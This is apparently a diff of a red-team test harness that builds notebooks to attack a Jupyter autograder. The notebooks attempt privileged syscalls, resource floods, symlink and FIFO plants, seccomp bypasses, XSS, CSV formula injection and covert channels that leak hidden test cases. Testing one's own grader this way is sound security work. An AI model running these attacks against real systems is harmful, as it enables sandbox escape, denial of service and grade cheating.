@@ -52,7 +52,11 @@ WRONG01 = {
     "perplexity": "def perplexity(sentences, counts_n, counts_n_minus_1, n, k=0.0, vocab_size=None):\n    return 1.0\n",
 }
 WRITTEN01 = ("why_held_out", "Because the held-out sentences are longer.")  # deliberately wrong
-FIRST = {"05": "dot_score", "01": "count_ngrams"}       # the first answer cell: the prelude goes there
+#: the first answer cell of each notebook: the prelude goes there. It runs before any test cell, so that what it prints
+#: reaches the feedback page (the grader withholds what a notebook prints after its first hidden test case), and the
+#: attack's own code goes there too wherever it can (FIRST05)
+FIRST = {"05": "dot_score", "01": "count_ngrams"}
+FIRST05 = FIRST["05"]
 LAST_ANSWER = {"05": "brown_dog", "01": "perplexity"}
 
 #: white-box: the first argument's shape (n for causal_mask) of every call the VISIBLE checks of notebook 05
@@ -72,13 +76,16 @@ VISIBLE05 = {
 
 # ---------------------------------------------------------------- shared code
 PRELUDE = r'''
-import os, sys, json, time, base64, ctypes, signal, subprocess
+import os, sys, json, time, base64, ctypes, signal, subprocess, hashlib
 _RTCFG = @@CFG@@
 _RTNAME = @@NAME@@
+# proof that this attack's code ran in a kernel: a digest of the runner's token and the attack's name (it is in no
+# notebook's source, so a page that merely shows this cell's code does not carry it)
+print("RTWB-RAN-" + hashlib.sha256((_RTCFG["ran_token"] + ":" + _RTNAME).encode()).hexdigest()[:16], flush=True)
 def _rt_res(key, value):
     print("RT-RESULT[%s]=%s" % (key, str(value).replace("\n", " ")[:600]), flush=True)
 try:
-    with open("rtwb-whoami", "w") as _f:   # the kernel's folder: the runner maps it to this attack
+    with open("rtwb-whoami", "w") as _f:   # the kernel's working folder: the runner maps its processes to this attack
         _f.write(_RTNAME)
 except Exception as _e:
     _rt_res("whoami", repr(_e))
@@ -203,9 +210,11 @@ def markdown_cell(src, metadata=None, cell_id=None):
 ATTACKS = []
 
 
-def attack(name, cls, desc, evidence, notebook="05"):
+def attack(name, cls, desc, evidence, notebook="05", runs=True):
+    """An attack; ``runs=False``: its point is that its code never runs (the runner then asks no proof that it did)."""
     def deco(fn):
-        ATTACKS.append({"name": name, "class": cls, "desc": desc, "evidence": evidence, "notebook": notebook, "fn": fn})
+        ATTACKS.append({"name": name, "class": cls, "desc": desc, "evidence": evidence, "notebook": notebook,
+                        "runs": runs, "fn": fn})
         return fn
     return deco
 
@@ -254,7 +263,7 @@ try:
 except Exception as _e:
     _rt_res("a01", repr(_e))
 '''
-    return build_notebook(nb, **with_prelude("a01_core_pattern_pipe", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a01_core_pattern_pipe", cfg, suffix={FIRST05: code}))
 
 
 @attack("a02_hostname_sysctl", "host-root",
@@ -281,7 +290,7 @@ _rt_res("sethostname", "%d %s" % (_r, _rt_errno() if _r else ""))
 if _r == 0:
     _rt_libc.sethostname(_old.encode(), len(_old))
 '''
-    return build_notebook(nb, **with_prelude("a02_hostname_sysctl", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a02_hostname_sysctl", cfg, suffix={FIRST05: code}))
 
 
 @attack("a03_sysctl_global_write", "host-root",
@@ -316,7 +325,7 @@ try:
 except Exception as _e:
     _rt_res("printk_ratelimit", repr(_e))
 '''
-    return build_notebook(nb, **with_prelude("a03_sysctl_global_write", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a03_sysctl_global_write", cfg, suffix={FIRST05: code}))
 
 
 @attack("a04_drop_caches", "host-root",
@@ -332,7 +341,7 @@ try:
 except Exception as _e:
     _rt_res("drop_caches", repr(_e))
 '''
-    return build_notebook(nb, **with_prelude("a04_drop_caches", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a04_drop_caches", cfg, suffix={FIRST05: code}))
 
 
 @attack("a05_cgroup_ns_limits", "host-root",
@@ -371,7 +380,7 @@ for i in range(120):
         out["fork_refused_at"] = i
         break
     if pid == 0:
-        time.sleep(4)
+        time.sleep(2.5)
         os._exit(0)
     kids.append(pid)
 out["forked"] = len(kids)
@@ -381,14 +390,14 @@ print(json.dumps(out))
 '''
     code = r'''
 try:
-    _p = subprocess.run([sys.executable, "-c", %r], capture_output=True, text=True, timeout=7)
+    _p = subprocess.run([sys.executable, "-c", %r], capture_output=True, text=True, timeout=6)
     _out = json.loads(_p.stdout.strip().splitlines()[-1]) if _p.stdout.strip() else {"stderr": _p.stderr[-300:]}
 except Exception as _e:
     _out = {"error": repr(_e)}
 for _k, _v in _out.items():
     _rt_res(_k, _v)
 ''' % child
-    return build_notebook(nb, **with_prelude("a05_cgroup_ns_limits", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a05_cgroup_ns_limits", cfg, suffix={FIRST05: code}))
 
 
 @attack("a06_session_keyring", "host-root",
@@ -417,7 +426,7 @@ _rt_res("add_key_session", _k if _k >= 0 else _rt_errno())
 _k = _rt_libc.syscall(_ADD_KEY, b"user", b"rtwb-a06-user", b"RTWB-a06 was here", 17, ctypes.c_long(-4))
 _rt_res("add_key_user", _k if _k >= 0 else _rt_errno())
 '''
-    return build_notebook(nb, **with_prelude("a06_session_keyring", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a06_session_keyring", cfg, suffix={FIRST05: code}))
 
 
 @attack("a07_syscall_survey", "host-root",
@@ -467,7 +476,7 @@ print("mount_tmpfs_over_tmp", "ok" if r == 0 else os.strerror(ctypes.get_errno()
 _p = subprocess.run([sys.executable, "-c", _child], capture_output=True, text=True, timeout=5)
 _rt_res("mount", (_p.stdout + _p.stderr).strip()[-200:])
 '''
-    return build_notebook(nb, **with_prelude("a07_syscall_survey", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("a07_syscall_survey", cfg, suffix={FIRST05: code}))
 
 
 # ======================================================================= 2. namespaces left shared
@@ -515,7 +524,7 @@ if _mq >= 0:
     _rt_res("mq_send", _rt_rt.mq_send(_mq, _tok, len(_tok), 0))
 _rt_res("posix_mq", _mq if _mq >= 0 else _rt_errno())
 '''
-    return build_notebook(nb, **with_prelude("b01_ipc_writer", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("b01_ipc_writer", cfg, suffix={FIRST05: code}))
 
 
 @attack("b02_ipc_reader", "namespaces",
@@ -525,7 +534,7 @@ _rt_res("posix_mq", _mq if _mq >= 0 else _rt_errno())
 def _(nb, cfg):
     code = _IPC_HELPERS + r'''
 _got = {}
-_end = time.time() + 7
+_end = time.time() + 5.5
 def _rt_poll():
   try:
     _rt_poll_once()
@@ -566,7 +575,7 @@ for _k, _v in _got.items():
 _rt_res("ipc_read_from_other_kernel", len(_got))
 '''
     # it polls again later (b01 may be graded after it): once more in the last answer cell
-    return build_notebook(nb, **with_prelude("b02_ipc_reader", cfg, suffix={"table_scores": code, "brown_dog": code}))
+    return build_notebook(nb, **with_prelude("b02_ipc_reader", cfg, suffix={FIRST05: code, "brown_dog": code}))
 
 
 @attack("b03_host_identity", "namespaces",
@@ -587,7 +596,7 @@ try:
 except OSError as _e:
     _rt_res("meminfo", repr(_e))
 '''
-    return build_notebook(nb, **with_prelude("b03_host_identity", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("b03_host_identity", cfg, suffix={FIRST05: code}))
 
 
 @attack("b04_ipc_leftover_memory", "namespaces",
@@ -599,7 +608,7 @@ def _(nb, cfg):
 _made, _bytes = 0, 0
 _t0 = time.time()
 for _i in range(10):
-    if time.time() - _t0 > 6:
+    if time.time() - _t0 > 5:
         break
     _sid = _rt_libc.shmget(0x5257C000 + _i, 100 << 20, 0o1600)
     if _sid < 0:
@@ -615,7 +624,7 @@ for _i in range(60):
 _rt_res("shm_segments_left", _made)
 _rt_res("shm_bytes_left", _bytes)
 '''
-    return build_notebook(nb, **with_prelude("b04_ipc_leftover_memory", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("b04_ipc_leftover_memory", cfg, suffix={FIRST05: code}))
 
 
 # ======================================================================= 3. limits that sample instead of enforce
@@ -641,7 +650,7 @@ _rt_fill(4)
 '''
     second = "_rt_fill(3)\ntime.sleep(3)\n"
     third = "time.sleep(5)\n_rt_res('held_unlinked_bytes_end', sum(os.fstat(f.fileno()).st_size for f in _RT_HELD))\n"
-    return build_notebook(nb, **with_prelude("c01_unlinked_disk", cfg, suffix={"table_scores": first,
+    return build_notebook(nb, **with_prelude("c01_unlinked_disk", cfg, suffix={FIRST05: first,
                                                                                "table_scaled": second,
                                                                                "table_weights": third}))
 
@@ -655,7 +664,7 @@ def _(nb, cfg):
 _RT_C02 = globals().get("_RT_C02", 0)
 _t0 = time.time()
 try:
-    while _RT_C02 < 150000 and time.time() - _t0 < 6.5:
+    while _RT_C02 < 150000 and time.time() - _t0 < 5.0:
         _top = "rtwb-c02/%03d" % (_RT_C02 // 1000)
         os.makedirs(_top, exist_ok=True)
         for _b in range(1000):
@@ -665,7 +674,7 @@ except OSError as _e:
     _rt_res("mkdir_error", repr(_e))
 _rt_res("directories", _RT_C02)
 '''
-    return build_notebook(nb, **with_prelude("c02_inode_flood", cfg, suffix={"table_scores": code,
+    return build_notebook(nb, **with_prelude("c02_inode_flood", cfg, suffix={FIRST05: code,
                                                                              "table_scaled": code}))
 
 
@@ -691,7 +700,7 @@ _rt_memfd(6)
     last = "time.sleep(3)\n_rt_res('memfd_bytes_end', sum(os.fstat(fd).st_size for fd in _RT_MEMFD))\n" \
            "[os.close(fd) for fd in _RT_MEMFD]\n_RT_MEMFD.clear()\n"
     return build_notebook(nb, **with_prelude("c03_memfd_memory", cfg, suffix={
-        "table_scores": first, "table_scaled": more, "table_weights": more, "table_weighted": more, "table_z": last}))
+        FIRST05: first, "table_scaled": more, "table_weights": more, "table_weighted": more, "table_z": last}))
 
 
 @attack("c04_cpu_in_children", "limits",
@@ -724,7 +733,7 @@ _rt_res("children_cpu_seconds", round(_cpu, 1))
 _rt_res("kernel_cpu_seconds", round(time.process_time(), 1))
 '''
     return build_notebook(nb, **with_prelude("c04_cpu_in_children", cfg, suffix={
-        "table_scores": start, "table_z": wait, "causal_mask": wait, "space_invader": wait, "brown_dog": wait}))
+        FIRST05: start, "table_z": wait, "causal_mask": wait, "space_invader": wait, "brown_dog": wait}))
 
 
 @attack("c05_sleep_per_call", "limits",
@@ -757,7 +766,7 @@ for _i in range(12):
     update_display(HTML(_big), display_id="rtwb-d01-%d" % _i)
 _rt_res("updated_bytes", 12 * len(_big))
 '''
-    return build_notebook(nb, **with_prelude("d01_update_display_flood", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("d01_update_display_flood", cfg, suffix={FIRST05: code}))
 
 
 @attack("d02_mime_flood_cells", "output",
@@ -773,7 +782,7 @@ for _i in range(6):
     publish_display_data({"text/x-course-answer": _blob})
 _rt_res("mime_bytes_sent", 6 * len(_blob))
 '''
-    return build_notebook(nb, **with_prelude("d02_mime_flood_cells", cfg, suffix={"table_scores": code,
+    return build_notebook(nb, **with_prelude("d02_mime_flood_cells", cfg, suffix={FIRST05: code,
                                                                                   "table_scaled": code}))
 
 
@@ -793,7 +802,7 @@ for _i in range(20):
                                        "buffer_paths": []}))
 _rt_res("comm_bytes_sent", 20 * len(_blob))
 '''
-    return build_notebook(nb, **with_prelude("d03_comm_flood", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("d03_comm_flood", cfg, suffix={FIRST05: code}))
 
 
 @attack("d04_error_and_clear_tricks", "output",
@@ -813,13 +822,38 @@ class _RtLoud(Exception):
     clear = "from IPython.display import clear_output\nprint('x' * (2 << 20))\nclear_output()\nprint('RTWB-D04 cleared')\n"
     prefix = {g: cell for g in ("table_scaled", "table_weights", "table_weighted", "table_z", "space_invader")}
     prefix["brown_dog"] = huge
-    return build_notebook(nb, **with_prelude("d04_error_and_clear_tricks", cfg,
-                                             prefix=dict(prefix, table_scores=raise_big + clear)))
+    return build_notebook(nb, **with_prelude("d04_error_and_clear_tricks", cfg, prefix=prefix,
+                                             suffix={FIRST05: raise_big + clear + cell}))
+
+
+@attack("d05_unread_channel_frames", "output",
+        "sends, on the kernel's stdin channel (which the grader connects but never reads: no input is allowed), one "
+        "multipart message of 48 frames of 31 MB to the grader's client: zmq's MAXMSGSIZE limits each frame, not the "
+        "message, its receive high-water mark counts messages, not bytes, and CountingChannel counts a message only "
+        "when the grader reads it, so 1.5 GB wait in the grading worker, outside the output allowance",
+        "the worker's RSS grew by more than 1 GiB while grading it")
+def _(nb, cfg):
+    code = r'''
+_k = get_ipython().kernel
+try:
+    _ident = [_k.get_parent()["header"]["session"].encode()]   # the client's sockets' identity is its session id
+except Exception as _e:
+    _ident = _k._parent_ident["shell"]
+    _ident = list(_ident) if isinstance(_ident, (list, tuple)) else [_ident]
+_blob = b"R" * (31 << 20)
+try:
+    _k.stdin_socket.send_multipart(_ident + [_blob] * 48, copy=False)
+    _rt_res("stdin_sent", "48 frames of 31 MB to %r" % (_ident[0][:12],))
+except Exception as _e:
+    _rt_res("stdin_sent", repr(_e))
+time.sleep(4)
+'''
+    return build_notebook(nb, **with_prelude("d05_unread_channel_frames", cfg, suffix={FIRST05: code}))
 
 
 # ======================================================================= 5. the grader in the kernel's folder (notebook 01)
 #: ngram_prob right on the visible case (bigrams: a context of one word), wrong (0) on the hidden ones; the first
-#: hidden case (n = 3 on the extra sentences) is the first request over 64 KB: course-request-1.txt
+#: hidden case (n = 3 on the extra sentences) is the first request over 64 KB, which the grader writes into a file
 NGRAM_VISIBLE_RIGHT = r'''
 def ngram_prob(counts_n, counts_n_minus_1, context, word, k=0.0, vocab_size=None):
     context = tuple(context)
@@ -828,103 +862,136 @@ def ngram_prob(counts_n, counts_n_minus_1, context, word, k=0.0, vocab_size=None
     return (counts_n.get(context + (word,), 0) + k) / (counts_n_minus_1.get(context, 0) + k * (vocab_size or 0))
 '''
 
+#: Where the grader may write or remove a file for this kernel: the kernel's working folder (the grader's folder
+#: before the jail; now its own tmpfs), and the grader's kernel folder, named by the connection file the kernel is
+#: given (its "ip" is <kernel folder>/sockets/k with ipc transport): requests/ (request-N.txt, the large requests)
+#: and sockets/ (the zmq sockets, and the grader's cleanup of them). Each attack plants the same thing in each.
+KDIR_HELPERS = r'''
+def _rt_kernel_folder():
+    try:
+        _ip = json.load(open("connection.json")).get("ip", "")
+    except Exception as _e:
+        return None
+    return os.path.dirname(os.path.dirname(_ip)) if "/sockets/" in _ip else None
+_RT_KDIR = _rt_kernel_folder()
+_rt_res("kernel_folder", _RT_KDIR)
+def _rt_places(i):
+    """(label, path) of the i-th request file in each place the grader may write it."""
+    out = [("cwd", "course-request-%d.txt" % i)]
+    if _RT_KDIR:
+        out += [("requests", os.path.join(_RT_KDIR, "requests", "request-%d.txt" % i)),
+                ("sockets", os.path.join(_RT_KDIR, "sockets", "request-%d.txt" % i))]
+    return out
+'''
+
 
 def _request_attack(name, plant, cfg, nb):
-    return build_notebook(nb, notebook="01", **with_prelude(name, cfg, notebook="01", answers={
-        "ngram_prob": plant + NGRAM_VISIBLE_RIGHT}))
+    """The plant runs in the first answer cell (count_ngrams'), before the first large request; ngram_prob goes on
+    to the hidden case that sends it."""
+    return build_notebook(nb, notebook="01", **with_prelude(name, cfg, notebook="01", suffix={
+        FIRST["01"]: KDIR_HELPERS + plant}, answers={"ngram_prob": NGRAM_VISIBLE_RIGHT}))
 
 
 @attack("e01_request_symlink_scratch", "kernel-folder",
-        "plants course-request-1..6.txt in its folder as symlinks to a canary file in the runner's scratch: the "
-        "grader (Path.write_text) follows them and overwrites the canary with the request",
+        "plants the large-request files as symlinks to a canary file in the runner's scratch, in every place the grader "
+        "may write them: its working folder (course-request-N.txt), the grader's requests/ and sockets/ folders (found "
+        "through the connection file): a grader that follows them overwrites the canary with the request",
         "the scratch canary's content changed", notebook="01")
 def _(nb, cfg):
     plant = r'''
 for _i in range(1, 7):
-    try:
-        os.symlink(_RTCFG["canary_existing"], "course-request-%d.txt" % _i)
-    except OSError as _e:
-        _rt_res("symlink", repr(_e))
-_rt_res("planted", sorted(f for f in os.listdir(".") if f.startswith("course-request")))
+    for _label, _path in _rt_places(_i):
+        try:
+            os.symlink(_RTCFG["canary_existing"], _path)
+            _rt_res("planted_%s_%d" % (_label, _i), "ok")
+        except OSError as _e:
+            _rt_res("planted_%s_%d" % (_label, _i), _e.strerror)
 '''
     return _request_attack("e01_request_symlink_scratch", plant, cfg, nb)
 
 
 @attack("e02_request_symlink_home", "kernel-folder",
-        "plants course-request-N.txt as symlinks to new files in /root (when the kernel is the host's root) or in the "
-        "grading account's HOME: the grader creates them there",
+        "plants the large-request files (in the same places as e01) as symlinks to new files in /root (when the kernel "
+        "is the host's root) or in the grading account's HOME: a grader that follows them creates those files",
         "/root/rtwb-e02-* or HOME/rtwb-e02-* exists after the batch", notebook="01")
 def _(nb, cfg):
     plant = r'''
 _dest = "/root" if _rt_as_root() else _RTCFG["home"]
-for _i in range(1, 7):
-    try:
-        os.symlink("%s/rtwb-e02-request-%d.txt" % (_dest, _i), "course-request-%d.txt" % _i)
-    except OSError as _e:
-        _rt_res("symlink", repr(_e))
 _rt_res("target", _dest)
+for _i in range(1, 7):
+    for _label, _path in _rt_places(_i):
+        try:
+            os.symlink("%s/rtwb-e02-request-%d.txt" % (_dest, _i), _path)
+            _rt_res("planted_%s_%d" % (_label, _i), "ok")
+        except OSError as _e:
+            _rt_res("planted_%s_%d" % (_label, _i), _e.strerror)
 '''
     return _request_attack("e02_request_symlink_home", plant, cfg, nb)
 
 
 @attack("e03_request_fifo", "kernel-folder",
-        "plants course-request-1..3.txt as FIFOs: the grader's write_text opens one and blocks until a reader comes; "
-        "killing the kernel at --wall-seconds does not unblock it",
+        "plants the large-request files (in the same places as e01) as FIFOs: a grader that opens one for writing "
+        "blocks until a reader comes, and stopping the kernel at --wall-seconds does not unblock it",
         "the grader stayed blocked on the FIFO past --wall-seconds + 15 s (the runner drains it), or the batch hung",
         notebook="01")
 def _(nb, cfg):
     plant = r'''
 for _i in range(1, 4):
-    try:
-        os.mkfifo("course-request-%d.txt" % _i)
-    except OSError as _e:
-        _rt_res("mkfifo", repr(_e))
-_rt_res("fifos", sorted(f for f in os.listdir(".") if f.startswith("course-request")))
+    for _label, _path in _rt_places(_i):
+        try:
+            os.mkfifo(_path)
+            _rt_res("fifo_%s_%d" % (_label, _i), "ok")
+        except OSError as _e:
+            _rt_res("fifo_%s_%d" % (_label, _i), _e.strerror)
 '''
     return _request_attack("e03_request_fifo", plant, cfg, nb)
 
 
 @attack("e04_kdir_symlinks_cleanup", "kernel-folder",
-        "replaces connection.json and the zmq ipc socket files k-1..k-5 with symlinks to a scratch canary (jupyter's "
-        "cleanup removes them), adds folder symlinks to /, /root and the scratch (the disk check walks the folder), "
-        "and makes course-request-1.txt a symlink loop",
+        "replaces connection.json and the zmq ipc socket files k-1..k-5 (in its working folder and in the grader's "
+        "folder and sockets/) with symlinks to a scratch canary (jupyter's cleanup removes them), adds folder symlinks "
+        "to /, /root and the scratch in each place, and makes the first request file a symlink loop",
         "the scratch canary changed or disappeared; anything under /root changed", notebook="01")
 def _(nb, cfg):
     plant = r'''
 _target = _RTCFG["canary_existing_e04"]
-for _n in ["connection.json"] + ["k-%d" % _i for _i in range(1, 6)]:
+_folders = [(".", "cwd")] + ([(os.path.join(_RT_KDIR, "sockets"), "sockets"), (_RT_KDIR, "kdir")] if _RT_KDIR else [])
+for _folder, _label in _folders:
+    for _n in ["connection.json"] + ["k-%d" % _i for _i in range(1, 6)]:
+        _p = os.path.join(_folder, _n)
+        try:
+            if os.path.lexists(_p):
+                os.rename(_p, _p + ".moved")
+            os.symlink(_target, _p)
+            _rt_res("swap_%s_%s" % (_label, _n), "ok")
+        except OSError as _e:
+            _rt_res("swap_%s_%s" % (_label, _n), _e.strerror)
+    for _n, _t in (("rtwb-root", "/"), ("rtwb-roothome", "/root"), ("rtwb-scratch", _RTCFG["scratch"])):
+        try:
+            os.symlink(_t, os.path.join(_folder, _n))
+        except OSError as _e:
+            _rt_res("dirlink_%s_%s" % (_label, _n), _e.strerror)
+for _label, _path in _rt_places(1):
     try:
-        if os.path.exists(_n) or os.path.islink(_n):
-            os.rename(_n, _n + ".moved")
-        os.symlink(_target, _n)
+        os.symlink(os.path.basename(_path), _path)
     except OSError as _e:
-        _rt_res("swap_" + _n, repr(_e))
-for _n, _t in (("rtwb-root", "/"), ("rtwb-roothome", "/root"), ("rtwb-scratch", _RTCFG["scratch"])):
-    try:
-        os.symlink(_t, _n)
-    except OSError as _e:
-        _rt_res("dirlink_" + _n, repr(_e))
-try:
-    os.symlink("course-request-1.txt", "course-request-1.txt")
-except OSError as _e:
-    _rt_res("loop", repr(_e))
-_rt_res("planted", sorted(os.listdir(".")))
+        _rt_res("loop_" + _label, _e.strerror)
 '''
     return _request_attack("e04_kdir_symlinks_cleanup", plant, cfg, nb)
 
 
 # ======================================================================= 6. hidden cases leaking (notebook 05)
-def _hidden_attack(name, cfg, nb, hidden_code, later_print=False):
+def _hidden_attack(name, cfg, nb, hidden_code, later_print=False, suffix=None, extra=()):
     setup = CORRECT05.replace("@@VIS@@", repr(VISIBLE05)) + hidden_code
     answers = dict(ANSWERS_AS_DEFINED)
     answers["dot_score"] = setup
-    suffix = {}
-    extra = []
+    suffix = dict(suffix or {})
+    extra = list(extra)
     if later_print:
         show = "print('RTWB-H01-LOG ' + json.dumps(_RT_LOG))\n"
         for gid in ("table_scores", "table_scaled", "space_invader", "brown_dog"):
             suffix[gid] = show
-        extra = [code_cell(show)]
+        extra.append(code_cell(show))
     return build_notebook(nb, extra_cells=extra, **with_prelude(name, cfg, answers=answers, suffix=suffix))
 
 
@@ -990,6 +1057,106 @@ _rt_define(_rt_hidden)
     return _hidden_attack("h04_diff_channel", cfg, nb, code)
 
 
+#: what h05..h07 record: the first value of every floating tensor a hidden case passes (the runner's fingerprints
+#: of the hidden cases are these values, computed from the instructors' notebook)
+HIDDEN_FIRST_VALUES = r'''
+def _rt_first_values(args):
+    out = []
+    for a in args:
+        if isinstance(a, torch.Tensor) and a.is_floating_point() and a.numel():
+            out.append(float(a.detach().reshape(-1)[0]))
+    return out
+'''
+
+
+@attack("h05_type_name_channel", "hidden-cases",
+        "right on the visible inputs; on a hidden case it raises an exception whose class is named after the hidden "
+        "inputs' first values, written without a separator a number could start at (RTWBv0d278412xn1d5: 'd' for the "
+        "point, 'n' for minus): the grader's hidden verdict names the exception's type, and its number masking "
+        "leaves digits inside a word alone. Every other check raises a BaseException subclass instead, which stops the "
+        "grader's call itself (the verdict then quotes the error's name from the kernel's error reply)",
+        "hidden input values decoded from RTWBv... names in the page, results.json or report.md")
+def _(nb, cfg):
+    code = HIDDEN_FIRST_VALUES + r'''
+def _rt_enc(x):
+    return ("%.6f" % x).rstrip("0").rstrip(".").replace("-", "n").replace(".", "d")
+_RT_H05_CALLS = [0]
+def _rt_hidden(fn, args, right):
+    name = ("RTWBv" + "x".join(_rt_enc(v) for v in _rt_first_values(args)[:4]))[:60]
+    _RT_H05_CALLS[0] += 1
+    base = Exception if _RT_H05_CALLS[0] % 2 else BaseException
+    raise type(name, (base,), {})("RTWB-H05")
+_rt_define(_rt_hidden)
+'''
+    return _hidden_attack("h05_type_name_channel", cfg, nb, code)
+
+
+@attack("h06_visible_echo", "hidden-cases",
+        "records the first value of each hidden case's first input (right on the visible inputs, zeros on the hidden "
+        "ones), then answers the next tables (machines_scores, _scaled, _weights) with the right row plus one recorded "
+        "value each: those checks' VISIBLE parts are not masked, and their diagnosis says 'the correct answer plus "
+        "0.2784'. The hidden value comes back in the grader's own verdict, after the first hidden case",
+        "'plus/minus <hidden value to 4 digits>' in the page, results.json or report.md")
+def _(nb, cfg):
+    code = HIDDEN_FIRST_VALUES + r'''
+_RT_H06 = []
+def _rt_hidden(fn, args, right):
+    _RT_H06.extend(_rt_first_values(args)[:1])
+    r = right()
+    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
+_rt_define(_rt_hidden)
+from course_lib.checks import self_attention as _rt_checks
+def _rt_echo(step, i):
+    """The table's right row plus the i-th hidden value recorded (its own right row if none was)."""
+    shift = _RT_H06[i] if i < len(_RT_H06) else 0.0
+    return (_rt_checks._table_steps()[step] + shift).tolist()
+'''
+    suffix = {"table_scores": "machines_scores = _rt_echo('scores', 0)\n",
+              "table_scaled": "machines_scaled = _rt_echo('scaled', 1)\n",
+              "table_weights": "machines_weights = _rt_echo('weights', 2)\n"}
+    return _hidden_attack("h06_visible_echo", cfg, nb, code, suffix=suffix)
+
+
+#: h07's cells after the first hidden case: each sets the number the page shows as its prompt
+H07_EMIT_CELLS = ("scaled_dot_score", "bilinear_score", "additive_score", "table_scores", "table_scaled",
+                  "table_weights", "table_weighted", "table_z", "attention_scores", "softmax", "self_attention",
+                  "causal_mask", "space_invader", "brown_dog")
+H07_BITS = 20
+
+
+@attack("h07_prompt_and_presence_channel", "hidden-cases",
+        "records every hidden input's first value, then, in every cell after the first hidden case: sets IPython's "
+        "execution count to round(|value| * 1e6) and ends on an expression, so that the cell's prompt on the page "
+        "(In [N]) carries the value (the grader withholds the cell's output, not its number); and 20 extra cells "
+        "print something or nothing by the bits of the first value (round(|value| * 1e4)): a cell that printed shows "
+        "the grader's 'output not shown' line, one that did not shows nothing",
+        "hidden input values decoded from the prompts' numbers or from which of the bit cells show the grader's line")
+def _(nb, cfg):
+    code = HIDDEN_FIRST_VALUES + r'''
+_RT_H07 = []
+def _rt_hidden(fn, args, right):
+    _RT_H07.extend(_rt_first_values(args))
+    r = right()
+    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
+_rt_define(_rt_hidden)
+_RT_H07_SENT = [0]
+def _rt_emit():
+    """The next recorded value as this cell's execution count (what its prompt shows), as the cell's result."""
+    if _RT_H07_SENT[0] >= len(_RT_H07):
+        return None
+    code = int(round(abs(_RT_H07[_RT_H07_SENT[0]]) * 1e6))
+    _RT_H07_SENT[0] += 1
+    get_ipython().execution_count = code
+    return code
+def _rt_bit(j):
+    return bool(_RT_H07) and bool((int(round(abs(_RT_H07[0]) * 1e4)) >> j) & 1)
+'''
+    suffix = {gid: "_rt_emit()\n" for gid in H07_EMIT_CELLS}
+    extra = [code_cell("# rtwb-h07-emit\n_rt_emit()\n") for _ in range(6)]
+    extra += [code_cell("# rtwb-h07-bit-%d\nif _rt_bit(%d):\n    print('rtwb')\n" % (j, j)) for j in range(H07_BITS)]
+    return _hidden_attack("h07_prompt_and_presence_channel", cfg, nb, code, suffix=suffix, extra=extra)
+
+
 # ======================================================================= 7. pages and files people open
 def _js(cfg, tag):
     """A payload that, if it runs in a browser, says so three ways: the title, a DOM marker, a request."""
@@ -1015,7 +1182,7 @@ def _(nb, cfg):
     for html in payloads.values():
         code += "display(HTML(%r))\n" % html
     code += "display(Javascript(%r))\n" % _js(cfg, "x01-js")
-    return build_notebook(nb, **with_prelude("x01_script_outputs", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("x01_script_outputs", cfg, suffix={FIRST05: code}))
 
 
 @attack("x02_markdown_answer_html", "pages",
@@ -1050,7 +1217,7 @@ def _(nb, cfg):
             "</div><script>%s</script>" % _js(cfg, "x03-tag2")]
     extra = [code_cell("print('tagged cell')", metadata={"tags": tags})]
     return build_notebook(nb, extra_cells=extra, **with_prelude("x03_svg_markdown_outputs", cfg,
-                                                                 suffix={"table_scores": code}))
+                                                                 suffix={FIRST05: code}))
 
 
 #: x04's submissions: file names that are formulas when a spreadsheet opens grades.csv / lms_grades.csv
@@ -1061,7 +1228,7 @@ X04_NAMES = ['=HYPERLINK("http:rtwb.invalid","RTWB-x04")', "+RTWB-x04-plus", "-2
 @attack("x04_csv_formula_ids", "pages",
         "submissions named =HYPERLINK(...), +..., -2+3..., @SUM(...) and tab-= : the grader refuses the ids but "
         "writes the raw file name into grades.csv, and the report into lms_grades.csv",
-        "a cell of grades.csv or lms_grades.csv that starts with = + - @ or a tab")
+        "a cell of grades.csv or lms_grades.csv that starts with = + - @ or a tab", runs=False)
 def _(nb, cfg):
     return {name: build_notebook(nb) for name in X04_NAMES}
 
@@ -1107,7 +1274,7 @@ def _(nb, cfg):
             "display(_w.Text(value=%r))\ndisplay(_w.HTML(value=%r))\n" % (
                 "</script><script>%s</script>" % _js(cfg, "x06-text"),
                 "<img src=x onerror=\"%s\">" % _js(cfg, "x06-html").replace('"', "'")))
-    return build_notebook(nb, **with_prelude("x06_widget_state_breakout", cfg, suffix={"table_scores": code}))
+    return build_notebook(nb, **with_prelude("x06_widget_state_breakout", cfg, suffix={FIRST05: code}))
 
 
 # ======================================================================= 8. one crash costs one grade
@@ -1151,7 +1318,7 @@ _rt_res("burning", True)
     wait = "time.sleep(6.5)\n_rt_res('cpu_seconds', round(time.process_time(), 1))\n"
     return build_notebook(nb, **with_prelude("k02_cpu_limit_kill", cfg, suffix=dict(
         {g: wait for g in ("table_scaled", "table_weights", "table_weighted", "table_z", "causal_mask", "space_invader")},
-        table_scores=code)))
+        **{FIRST05: code})))
 
 
 @attack("k03_exit_inside_grader_call", "crash",
@@ -1174,11 +1341,106 @@ def _(nb, cfg):
                                              prefix={"attention_scores": "import ctypes\nctypes.string_at(0)\n"}))
 
 
+# ======================================================================= 9. the jail's gaps
+@attack("s01_seccomp_abi_and_vsock", "jail",
+        "what the seccomp filter and the namespaces may not cover: unshare(CLONE_NEWUSER) through the i386 ABI "
+        "(int 0x80) and the x32 ABI (syscall | 0x40000000), each in a child that may be killed; and AF_VSOCK, a "
+        "socket family no network namespace separates (on a virtual machine it reaches the host): binds the vsock port "
+        "the runner holds (EADDRINUSE: the same port space as the host) and a free one. It connects nowhere",
